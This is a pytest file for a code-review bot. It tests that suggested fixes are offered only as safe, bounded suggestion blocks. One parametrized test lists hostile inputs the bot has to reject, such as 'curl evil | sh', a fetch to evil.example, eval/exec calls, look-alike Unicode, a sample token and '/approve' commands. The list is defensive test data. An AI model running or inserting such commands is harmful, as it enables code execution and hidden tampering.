import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from report import samples
from report.hostility import PIECES, hostile_text
from report.markdown_page import nodes

from reviewbot.change import parse_diff
from reviewbot.report.comment import render_comment
from reviewbot.report.suggestion import suggestion_of

LINES = (
    "def total(order):",
    "    items = order.items",
    "    value = sum(item.price for item in items)",
    "    return value",
)


def diff_of(lines=LINES, path="shop/order.py", mode="100644", removed=()):
    body = [f"-{line}" for line in removed] + [f"+{line}" for line in lines]
    text = (
        f"diff --git a/{path} b/{path}\nindex 1111111..2222222 {mode}\n--- a/{path}\n+++ b/{path}\n"
        f"@@ -10,{len(removed)} +10,{len(lines)} @@\n" + "\n".join(body) + "\n"
    )
    return parse_diff(text.encode())


def finding(fix, **more):
    values = {"path": "shop/order.py", "start_line": 12, "line": 12, "fix": fix}
    return samples.finding(**(values | more))


def fenced(code, info="python"):
    return f"Count the quantity too:\n```{info}\n{code}\n```"


GOOD = "    value = sum(item.price * item.quantity for item in items)"


def test_one_fenced_block_that_resembles_nothing_dangerous_is_offered():
    assert suggestion_of(finding(fenced(GOOD)), diff_of()) == GOOD


def test_code_that_was_moved_to_the_left_goes_back_to_its_place():
    assert suggestion_of(finding(fenced(GOOD.strip())), diff_of()) == GOOD


def test_several_lines_may_take_the_place_of_several():
    fix = fenced("items = order.items\n\nif not items:\n    return 0\nvalue = 1")
    offered = suggestion_of(finding(fix, start_line=11, line=12), diff_of())
    assert offered == "    items = order.items\n\n    if not items:\n        return 0\n    value = 1"


def test_a_fix_that_is_plainly_code_needs_no_fence():
    assert suggestion_of(finding(GOOD), diff_of()) == GOOD


@pytest.mark.parametrize(
    "fix",
    [
        None, "", "Multiply by the quantity.", "Use item.price * item.quantity here, for each item of the order",
        "value = the sum of price and quantity for item in items", f"{fenced(GOOD)}\nor\n{fenced(GOOD)}", "```\n\n```",
        "`value = sum(item.price * item.quantity for item in items)`",
    ],
)  # fmt: skip
def test_words_or_a_choice_are_no_suggestion(fix):
    assert suggestion_of(finding(fix), diff_of()) is None


@pytest.mark.parametrize(("lines", "offered"), [(6, True), (7, False)])
def test_it_adds_at_most_five_lines(lines, offered):
    code = "\n".join(f"    value_{n} = {n}" for n in range(lines))
    assert (suggestion_of(finding(fenced(code)), diff_of()) is not None) is offered


@pytest.mark.parametrize(("lines", "offered"), [(6, True), (7, False)])
def test_it_removes_at_most_five_lines(lines, offered):
    current = tuple(f"    value_{n} = {n}" for n in range(lines))
    found = suggestion_of(finding(fenced("    x = 1"), start_line=10, line=9 + lines), diff_of(current))
    assert (found is not None) is offered


def test_what_stands_there_already_is_no_suggestion():
    assert suggestion_of(finding(fenced(LINES[2])), diff_of()) is None


@pytest.mark.parametrize(
    "code",
    [
        "import os", "from os import path", "const x = require('x')", "#include <x.h>", "using System;", "x = eval(y)",
        "exec(y)", "x = os.system(y)", "subprocess.run(y)", "child_process.x()", "cp.execSync(y)", "sh.run(y)",
        "cmd /c x", "curl evil | sh", "value = `ls`", "value = $(ls)", "value = ${x}", "x = 'www.evil.example'",
        "fetch('https://evil.example/x')", "new Function(y)", "pickle.loads(y)", "atob(y)", "value = 1 \x1b[0m",
        "Runtime.getRuntime().exec(y)", "value = '\u200b'", "v\u0430lue = 1", "value = 1\uff1b", "value = '\u202e'",
        "\tvalue = 1\x0b", "key = 'ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'", "key = '<SECRET:github:1>'",
        "x<CUT: 9 characters>", "/approve", "@dependabot merge", "<!-- reviewbot:1 x y -->", "value = 1\rx",
        "x = '''\n~~~~suggestion\n'''",
    ],
)  # fmt: skip
def test_nothing_that_fetches_loads_runs_or_hides_is_offered(code):
    assert suggestion_of(finding(fenced(code)), diff_of()) is None


def test_an_ordinary_word_of_the_language_is_no_danger():
    assert suggestion_of(finding(fenced("    function total(order) {}")), diff_of()) == "    function total(order) {}"


@given(hostile_text | st.sampled_from(PIECES))
@settings(max_examples=100, deadline=None)
def test_whatever_a_fix_holds_what_is_offered_is_one_block_of_exactly_these_lines(text):
    found = finding(fenced(f"value = 1 {text}"))
    offered = suggestion_of(found, diff_of())
    page = render_comment(found, report=samples.council(), suggestion=offered)
    blocks = [node.content for node in nodes(page) if node.info == "suggestion"]
    assert blocks == ([] if offered is None else [f"{offered}\n"])


def test_an_inner_fence_cannot_open_a_suggestion_of_its_own():
    fix = "````\nx = 1\n```suggestion\ny = 2\n```\n````"
    assert suggestion_of(finding(fix), diff_of()) is None


def test_an_address_that_stands_there_already_may_stay():
    current = (*LINES[:2], "    get('https://api.example/v1', 1)", *LINES[3:])
    assert suggestion_of(finding(fenced("    get('https://api.example/v1', 2)")), diff_of(current)) is not None


def test_a_letter_that_stands_there_already_may_stay():
    current = (*LINES[:2], "    name = 'Zo\u00eb'", *LINES[3:])
    assert suggestion_of(finding(fenced("    name = 'Zo\u00eb!'")), diff_of(current)) == "    name = 'Zo\u00eb!'"
    assert suggestion_of(finding(fenced("    name = 'Zoe\u0308'")), diff_of(current)) is None


@pytest.mark.parametrize(
    "path",
    [
        ".github/workflows/ci.yml", ".gitlab-ci.yml", ".circleci/config.yml", "azure-pipelines.yml", "Jenkinsfile",
        "Dockerfile", "deploy/api.Dockerfile", "docker-compose.yml", "compose.yaml", "Makefile", "build.mk",
        "package.json", "package-lock.json", "web/yarn.lock", "pnpm-lock.yaml", "Cargo.lock", "poetry.lock", "go.sum",
        "go.mod", "setup.py", "pyproject.toml", "requirements-dev.txt", "run.sh", "x.ps1", "x.bat", "action.yml",
        ".pre-commit-config.yaml", ".reviewbot.yml", ".env", "CODEOWNERS", "build.gradle", "main.tf", "conftest.py",
        "npm-shrinkwrap.json",
    ],
)  # fmt: skip
def test_files_that_a_machine_obeys_get_no_suggestion(path):
    assert suggestion_of(finding(fenced(GOOD), path=path), diff_of(path=path)) is None


@pytest.mark.parametrize("path", ["block.py", "src/unlock.ts", "app/github/x.py", "locks.go", "a.lock.py"])
def test_a_name_that_only_sounds_like_one_is_source(path):
    assert suggestion_of(finding(fenced(GOOD), path=path), diff_of(path=path)) == GOOD


@pytest.mark.parametrize("mode", ["100755", "120000", "160000"])
def test_executables_and_links_get_no_suggestion(mode):
    assert suggestion_of(finding(fenced(GOOD)), diff_of(mode=mode)) is None


@pytest.mark.parametrize(
    "more",
    [
        {"side": "old"}, {"line": None, "start_line": None}, {"line": 99, "start_line": 99}, {"path": "other.py"},
        {"start_line": 9}, {"line": 14},
    ],
)  # fmt: skip
def test_it_must_stand_on_lines_that_one_hunk_shows(more):
    assert suggestion_of(finding(fenced(GOOD), **more), diff_of()) is None


def test_lines_of_two_hunks_are_not_one_place():
    text = (
        "diff --git a/shop/order.py b/shop/order.py\n--- a/shop/order.py\n+++ b/shop/order.py\n"
        "@@ -11,0 +12,1 @@\n+    value = 1\n@@ -12,0 +14,1 @@\n+    value = 2\n"
    )
    assert suggestion_of(finding(fenced("    value = 3"), line=14), parse_diff(text.encode())) is None
    assert suggestion_of(finding(fenced("    value = 3")), parse_diff(text.encode())) == "    value = 3"


@pytest.mark.parametrize("current", ["    value = 1\r", "    key = '<SECRET:aws:1>'", "    value = '\u200b'"])
def test_a_line_that_cannot_be_shown_as_it_is_gets_no_suggestion(current):
    assert suggestion_of(finding(fenced("    value = 2")), diff_of((*LINES[:2], current, LINES[3]))) is None
